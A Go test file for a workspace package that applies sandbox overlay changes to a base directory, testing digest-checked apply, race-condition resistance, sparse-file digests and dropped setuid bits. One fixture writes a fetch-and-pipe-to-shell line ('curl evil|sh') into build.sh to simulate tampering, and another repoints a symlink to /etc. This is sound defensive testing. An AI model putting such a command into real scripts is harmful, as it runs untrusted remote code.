package workspace

import (
	"context"
	"errors"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/sys/unix"
)

// alive returns a set that a box works in, its base, and the directory of its top.
func alive(t testing.TB) (s *Store, base, up string) {
	t.Helper()
	s, base = store(t)
	put(t, base+"/build.sh", "echo old\n")
	put(t, base+"/gone", "x")
	put(t, base+"/attr", "x")
	l, err := s.Use("set", "local", base, Protect{})
	must(t, err)
	t.Cleanup(func() { must(t, l.Close()) })
	up = top(t, s, "set")
	put(t, up+"/build.sh", "echo good\n")
	put(t, up+"/other", "x\n")
	put(t, up+"/attr", "x")
	must(t, unix.Setxattr(up+"/attr", "user.note", []byte("good"), 0))
	must(t, os.Symlink("build.sh", up+"/link"))
	whiteout(t, up+"/gone")
	return s, base, up
}

func digestNow(t testing.TB, s *Store, paths ...string) string {
	t.Helper()
	d, err := s.Changes(t.Context(), "set", paths...)
	must(t, err)
	var out strings.Builder
	must(t, s.Unified(t.Context(), &out, "set", paths))
	if !strings.HasSuffix(out.String(), "# digest "+d.Digest+"\n") {
		t.Fatalf("the list has the digest %s, the unified diff ends with %s", d.Digest, out.String()[max(0, out.Len()-80):])
	}
	return d.Digest
}

// TestApplyTakesWhatWasShown checks that Apply with a digest applies exactly what the diff
// showed, or nothing, whatever a running box changes in the set in between.
func TestApplyTakesWhatWasShown(t *testing.T) {
	for name, change := range map[string]func(base, up string){
		"content":   func(_, up string) { put(t, up+"/build.sh", "curl evil|sh\n") },
		"one more":  func(_, up string) { put(t, up+"/more", "x") },
		"one less":  func(_, up string) { must(t, os.Remove(up+"/other")) },
		"mode":      func(_, up string) { must(t, os.Chmod(up+"/other", 0o755)) },
		"target":    func(_, up string) { must(t, os.Remove(up+"/link")); must(t, os.Symlink("/etc", up+"/link")) },
		"attribute": func(_, up string) { must(t, unix.Setxattr(up+"/attr", "user.note", []byte("evil"), 0)) },
		"deletion":  func(_, up string) { must(t, os.Remove(up+"/gone")) },
		"kind":      func(_, up string) { must(t, os.Remove(up+"/other")); must(t, os.Mkdir(up+"/other", 0o755)) },
		"unreadable": func(_, up string) {
			must(t, os.Remove(up+"/other"))
			must(t, unix.Mkfifo(up+"/other", 0o644))
		},
	} {
		t.Run(name, func(t *testing.T) {
			s, base, up := alive(t)
			before := tree(t, base)
			if _, err := s.Apply(t.Context(), "set", Options{Protected: true}); !errors.Is(err, ErrLive) || !strings.Contains(err.Error(), "--as") {
				t.Errorf("apply of a live set: %v", err)
			}
			was := digestNow(t, s)
			change(base, up)
			_, err := s.Apply(t.Context(), "set", Options{Protected: true, As: was})
			if !errors.Is(err, ErrChanged) || !strings.Contains(err.Error(), "changed since then: ") {
				t.Errorf("apply as what was shown: %v", err)
			}
			if d := cmp.Diff(before, tree(t, base)); d != "" {
				t.Errorf("before (-), after (+):\n%s", d)
			}
			r, err := s.Apply(t.Context(), "set", Options{Protected: true, As: digestNow(t, s)})
			if err != nil || len(r.Applied) == 0 {
				t.Errorf("as it is now: %+v, %v", r, err)
			}
		})
	}
}

// TestDigestOfSomePaths checks that a digest is valid only for the paths that were shown.
func TestDigestOfSomePaths(t *testing.T) {
	s, base, up := alive(t)
	some := digestNow(t, s, "build.sh")
	if _, err := s.Apply(t.Context(), "set", Options{Protected: true, As: some}); !errors.Is(err, ErrChanged) {
		t.Errorf("all of it with the digest of one path: %v", err)
	}
	put(t, up+"/other", "something else\n")
	r, err := s.Apply(t.Context(), "set", Options{Protected: true, As: some, Paths: []string{"build.sh"}})
	if err != nil || len(r.Applied) != 1 {
		t.Errorf("got %+v, %v", r, err)
	}
	if got := tree(t, base)["build.sh"]; !strings.HasSuffix(got, "echo good\n") {
		t.Errorf("got %q", got)
	}
}

// TestApplyReadsOnce checks that if a box exchanges files all the time, Apply takes what
// was shown or nothing.
func TestApplyReadsOnce(t *testing.T) {
	s, base, up := alive(t)
	same := []unix.Timespec{{Sec: 1}, {Sec: 1}}
	passed := 0
	for i := range 15 {
		name := "tool" + strconv.Itoa(i)
		put(t, up+"/"+name, "good\n")
		put(t, up+"/evil", "evil\n")
		for _, path := range []string{name, "evil"} {
			must(t, unix.UtimesNanoAt(unix.AT_FDCWD, up+"/"+path, same, 0))
		}
		want := digestNow(t, s, name)
		ctx, cancel := context.WithCancel(t.Context())
		var box sync.WaitGroup
		box.Go(func() {
			for ctx.Err() == nil {
				_ = unix.Renameat2(unix.AT_FDCWD, up+"/evil", unix.AT_FDCWD, up+"/"+name, unix.RENAME_EXCHANGE)
			}
		})
		for range 4 {
			r, err := s.Apply(t.Context(), "set", Options{Protected: true, As: want, Paths: []string{name}})
			got := tree(t, base)[name]
			if strings.Contains(got, "evil") {
				t.Errorf("applied %q, with %+v, %v", got, r, err)
			}
			if got != "" {
				passed++
				break
			}
		}
		cancel()
		box.Wait()
		if tree(t, base)[name] != "" {
			continue
		}
		// Each Apply was refused, because the exchange came in between. Without the
		// exchange, the same call must succeed.
		if strings.Contains(tree(t, up)[name], "evil") {
			must(t, unix.Renameat2(unix.AT_FDCWD, up+"/evil", unix.AT_FDCWD, up+"/"+name, unix.RENAME_EXCHANGE))
		}
		r, err := s.Apply(t.Context(), "set", Options{Protected: true, As: want, Paths: []string{name}})
		if got := tree(t, base)[name]; err != nil || !strings.Contains(got, "good") {
			t.Errorf("without an exchange: applied %q, with %+v, %v", got, r, err)
		}
	}
	t.Logf("applied %d of 15 during the exchange", passed)
}

// TestACopyThatIsAnotherIsRefused checks that the digest is compared with the copy itself,
// and not with the file before it is copied.
func TestACopyThatIsAnotherIsRefused(t *testing.T) {
	s, base, up := alive(t)
	o, err := s.look("set", unix.LOCK_EX)
	must(t, err)
	defer o.close()
	must(t, o.compare(t.Context()))
	chosen, err := choose(o.diff.Changes, []string{"build.sh", "attr"})
	must(t, err)
	d, err := o.digestOf(t.Context(), chosen)
	must(t, err)
	put(t, up+"/build.sh", "echo EVIL\n")
	put(t, up+"/attr", "evil")
	p := &planned{changes: chosen, why: make([]string, len(chosen)), conflict: make([]bool, len(chosen))}
	a := &applying{open: o, planned: p, report: &Report{}, linked: map[uint64]bool{}, shown: d}
	must(t, a.run(t.Context()))
	want := []Skip{{Path: "build.sh", Reason: errSwapped.Error()}}
	if d := cmp.Diff(want, a.report.Skipped); d != "" {
		t.Errorf("want (-), got (+):\n%s", d)
	}
	for name, text := range map[string]string{"build.sh": "echo old\n", "attr": "x"} {
		if got := tree(t, base)[name]; !strings.HasSuffix(got, " "+text) {
			t.Errorf("%s is %q", name, got)
		}
	}
}

// TestDigestOfHoles checks that the digest of a file does not depend on its holes.
func TestDigestOfHoles(t *testing.T) {
	s, _, up := alive(t)
	make := func(write func(f *os.File)) string {
		f, err := os.OpenFile(up+"/holes", os.O_RDWR|os.O_CREATE|os.O_TRUNC, 0o644)
		must(t, err)
		defer f.Close()
		must(t, f.Truncate(1<<20))
		write(f)
		must(t, unix.UtimesNanoAt(unix.AT_FDCWD, up+"/holes", []unix.Timespec{{Sec: 1}, {Sec: 1}}, 0))
		return digestNow(t, s, "holes")
	}
	data := []byte(strings.Repeat("x", 5000))
	sparse := make(func(f *os.File) { _, err := f.WriteAt(data, 300_001); must(t, err) })
	full := make(func(f *os.File) {
		_, err := f.WriteAt(append(append(zeros(300_001), data...), zeros(1<<20-305_001)...), 0)
		must(t, err)
	})
	moved := make(func(f *os.File) { _, err := f.WriteAt(data, 300_002); must(t, err) })
	// The same bytes, at the same offset of another block.
	further := make(func(f *os.File) { _, err := f.WriteAt(data, 300_001+64<<10); must(t, err) })
	if sparse != full || sparse == moved || sparse == further {
		t.Errorf("with holes %s, without %s, with other content %s, further on %s", sparse, full, moved, further)
	}
}

// zeros returns n zero bytes.
func zeros(n int) []byte { return []byte(strings.Repeat("\x00", n)) }

// TestDeepDirectory checks that a directory which is deeper or larger than the bounds does
// not prevent the rest of the set from being compared and applied.
func TestDeepDirectory(t *testing.T) {
	s, base := store(t)
	must(t, s.Create("set", base, Protect{}))
	up := top(t, s, "set")
	deep := "deep" + strings.Repeat("/d", maxDepth+5)
	put(t, up+"/"+deep+"/file", "x")
	put(t, up+"/fine", "x")
	d, err := s.Changes(t.Context(), "set")
	must(t, err)
	last := d.Changes[len(d.Changes)-2]
	if last.Problem == "" || strings.Count(last.Path, "/") != maxDepth+1 || d.Changes[len(d.Changes)-1].Path != "fine" {
		t.Errorf("got %q with %q, then %q", last.Path, last.Problem, d.Changes[len(d.Changes)-1].Path)
	}
	if _, err := s.Changes(t.Context(), "set", "fine"); err != nil {
		t.Error(err)
	}
	r := apply(t, s, Options{Paths: []string{"fine"}})
	if len(r.Applied) != 1 {
		t.Errorf("got %+v", r)
	}
	r = apply(t, s, Options{})
	if len(r.Skipped) != 1 || !strings.Contains(r.Skipped[0].Reason, "up to 4095 bytes and 256 directories") || r.Emptied {
		t.Errorf("got %+v, %t", r.Skipped, r.Emptied)
	}
	var out strings.Builder
	must(t, s.Unified(t.Context(), &out, "set", nil))
	if !strings.Contains(out.String(), "256 directories") {
		t.Errorf("got %q", out.String())
	}
}

// TestSetIDIsDroppedAndSaid checks that permission bits which are left out are reported.
func TestSetIDIsDroppedAndSaid(t *testing.T) {
	s, base := store(t)
	must(t, s.Create("set", base, Protect{}))
	up := top(t, s, "set")
	put(t, up+"/tool", "x")
	must(t, unix.Chmod(up+"/tool", 0o6755))
	put(t, up+"/dir/file", "x")
	must(t, unix.Chmod(up+"/dir", 0o3777))
	d, err := s.Changes(t.Context(), "set")
	must(t, err)
	got := map[string]string{}
	for _, c := range d.Changes {
		got[c.Path] = c.Dropped
	}
	want := map[string]string{"tool": "set-user-ID and set-group-ID not applied", "dir": "set-group-ID and sticky not applied", "dir/file": ""}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("want (-), got (+):\n%s", diff)
	}
	apply(t, s, Options{})
	for path, mode := range map[string]string{"tool": "-rwxr-xr-x", "dir": "drwxrwxrwx"} {
		if got := tree(t, base)[path]; !strings.HasPrefix(got, mode) {
			t.Errorf("%s is %q, want %s", path, got, mode)
		}
	}
}
